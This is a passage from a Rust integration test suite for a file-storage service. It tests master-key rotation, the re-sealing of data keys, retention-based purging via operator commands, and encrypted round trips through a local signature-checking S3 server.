    let n = files::keys::rewrap_all(&mut tx, ring, &audit::Who::system("test:rotate")).await.expect("rewrap");
    tx.commit().await.expect("commit");
    assert_eq!(n, 2, "one data key per organisation");
    let mut tx = db.store.bypass("test", "read keys").await.expect("bypass");
    let ids: Vec<String> =
        sqlx::query_scalar("select master_key_id from blob_keys").fetch_all(tx.conn()).await.expect("keys");
    tx.commit().await.expect("commit");
    assert!(ids.iter().all(|i| *i == new), "{ids:?}");
    assert_eq!(audit_count(&db, w.acme.id, "file.keys_rewrapped").await, 1);
    let (_, l) = link(&w, &w.staff, &att, "attachment").await;
    assert_eq!(fetch(&w, &w.staff, l["url"].as_str().expect("url"), None).await.body.expect("body"), bytes);
}

/// The operator commands act on what the server stored, from the directory the server runs in:
/// `admin rotate-blob-key` writes the next master key and re-seals every data key, the running
/// server opens its files with it, and a server started afterwards with the old key file gone
/// does too; `admin purge-files` purges nothing inside the retention period, then (once the
/// deletion is older than it) removes the object, and a bad retention is refused by name.
#[tokio::test]
async fn the_operator_commands_rotate_the_master_key_and_purge_only_past_retention() {
    let db = TestDb::new().await;
    let w = world(&db).await;
    let dir = w._dir.path();
    let doc = draft(&w.staff, w.acme.department).await;
    let bytes = pdf(150_000);
    let (att, blob) = uploaded(&w, &w.staff, &doc, &bytes).await;

    let o = common::operator_run(&db, dir, &["admin", "rotate-blob-key"]);
    let (ok, out) = (o.status.success(), common::output(&o));
    assert!(ok && out.contains("re-sealed 1 file data key(s)"), "{out}");
    assert!(master_keys(dir).join("0002.key").exists(), "the next master key file is written: {out}");
    let (_, l) = link(&w, &w.staff, &att, "attachment").await;
    assert_eq!(fetch(&w, &w.staff, l["url"].as_str().expect("url"), None).await.body.expect("body"), bytes);
    std::fs::remove_file(master_keys(dir).join("0001.key")).expect("retire the old key");
    let files = files::Files {
        storage: files::Storage::local(&dir.join("data").join("blobs")).expect("storage"),
        keys: files::Keyring::load(&master_keys(dir)).expect("keys"),
        links: files::LinkKey::ephemeral(),
        max_upload: files::DEFAULT_MAX_UPLOAD,
    };
    let restarted = TestApp::serve(TestApp::setup(&db).roomy().state().with_files(files)).await;
    let staff = restarted.sign_in("acme", "user1@acme.example").await;
    let l = staff.post(&format!("/api/v1/attachments/{att}/links"), json!({"disposition": "attachment"})).await;
    let got = raw(&restarted, &staff, reqwest::Method::GET, l.body["url"].as_str().expect("url"), None, &[]).await;
    assert_eq!(got.body.expect("body"), bytes, "opened with only the new master key");

    assert_eq!(w.staff.delete(&format!("/api/v1/attachments/{att}")).await.status, StatusCode::OK);
    let object = object(&w, w.acme.id, &blob);
    let o = common::operator_run(&db, dir, &["admin", "purge-files", "--older-than-days", "1"]);
    let (ok, out) = (o.status.success(), common::output(&o));
    assert!(ok && out.contains("purged 0 file(s)"), "{out}");
    assert!(object.exists(), "inside the retention period nothing is purged");
    let o = common::operator_run(&db, dir, &["admin", "purge-files", "--older-than-days", "0"]);
    let (ok, out) = (o.status.success(), common::output(&o));
    assert!(!ok && out.contains("--older-than-days") && !out.contains("panicked"), "{out}");
    let mut admin = db.admin_conn().await;
    sqlx::query("update blobs set deleted_at = now() - interval '2 days' where id = $1")
        .bind(Uuid::parse_str(&blob).expect("uuid"))
        .execute(&mut admin)
        .await
        .expect("age the deletion");
    let o = common::operator_run(&db, dir, &["admin", "purge-files", "--older-than-days", "1"]);
    let (ok, out) = (o.status.success(), common::output(&o));
    assert!(ok && out.contains("purged 1 file(s)"), "{out}");
    assert!(!object.exists(), "the object is gone");
    assert_eq!(audit_count(&db, w.acme.id, "file.purged").await, 1);
    assert_eq!(audit_count(&db, w.acme.id, "file.keys_rewrapped").await, 1);
}

/// A real S3 server that checks request signatures (`s3s-fs`, installed by `.ci/run`), on a
/// loopback port of this suite's range, over a temporary directory; killed when dropped.
struct S3Server {
    child: std::process::Child,
    root: tempfile::TempDir,
    endpoint: String,
}

impl Drop for S3Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

async fn s3s_fs(port: u16) -> S3Server {
    let root = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir(root.path().join("countersign")).expect("bucket directory");
    let mut child = std::process::Command::new("s3s-fs")
        .args(["--access-key", "AKCOUNTERSIGN", "--secret-key", "SKCOUNTERSIGNTEST", "--host", "127.0.0.1"])
        .args(["--port", &port.to_string()])
        .arg(root.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap_or_else(|e| {
            panic!("s3s-fs must be installed (.ci/run: cargo install --locked s3s-fs@0.14.1 --features binary): {e}")
        });
    let endpoint = format!("http://127.0.0.1:{port}");
    for _ in 0..100 {
        if tokio::net::TcpStream::connect(("127.0.0.1", port)).await.is_ok() {
            return S3Server { child, root, endpoint };
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let _ = child.kill();
    let _ = child.wait();
    panic!("s3s-fs did not listen on {port}");
}

#[tokio::test]
async fn files_round_trip_through_a_real_s3_server_that_checks_signatures() {
    let s3 = s3s_fs(18321).await;
    let storage = |secret: &str| {
        files::Storage::s3_at("s3://countersign/prod", &s3.endpoint, "us-east-1", "AKCOUNTERSIGN", secret).expect("s3")
    };
    let db = TestDb::new().await;
    let w = world_with(&db, Some(storage("SKCOUNTERSIGNTEST"))).await;
    let doc = draft(&w.staff, w.acme.department).await;
    // Larger than one 5 MiB part: a real multipart upload.
    let bytes = pdf(6 * 1024 * 1024 + 123);
    let (att, blob) = uploaded(&w, &w.staff, &doc, &bytes).await;
    // In the bucket, under the prefix, at a key of ids: ciphertext.
    let object = s3.root.path().join("countersign/prod/tenants").join(w.acme.id.to_string()).join("blobs").join(&blob);
    let stored = std::fs::read(&object).expect("object in the bucket");
    assert!(stored.starts_with(b"CSB1"));
    assert!(!stored.windows(32).any(|x| x == &bytes[1000..1032]));
    let (_, l) = link(&w, &w.staff, &att, "attachment").await;
    let url = l["url"].as_str().expect("url").to_owned();
    assert_eq!(fetch(&w, &w.staff, &url, None).await.body.expect("body"), bytes);
    let part = fetch(&w, &w.staff, &url, Some("bytes=5242000-5243000")).await;
    assert_eq!(part.body.expect("body"), &bytes[5_242_000..=5_243_000]);
    // The server checks signatures: a wrong secret is refused.
    let wrong = storage("not-the-secret");
    assert!(wrong.exists(w.acme.id.as_uuid(), Uuid::parse_str(&blob).expect("uuid")).await.is_err());
    // Purge removes the object from the bucket.
    assert_eq!(w.staff.delete(&format!("/api/v1/attachments/{att}")).await.status, StatusCode::OK);
    let mut tx = db.store.bypass("test", "purge files").await.expect("bypass");
    let n = files::blobs::purge_before(
        &mut tx,
        &w.app.state.files.storage,
        &audit::Who::system("test:purge"),
        chrono::Utc::now() + chrono::Duration::seconds(5),
    )
    .await
    .expect("purge");
    tx.commit().await.expect("commit");
    assert_eq!(n, 1);
    assert!(!object.exists(), "purged from the bucket");
}
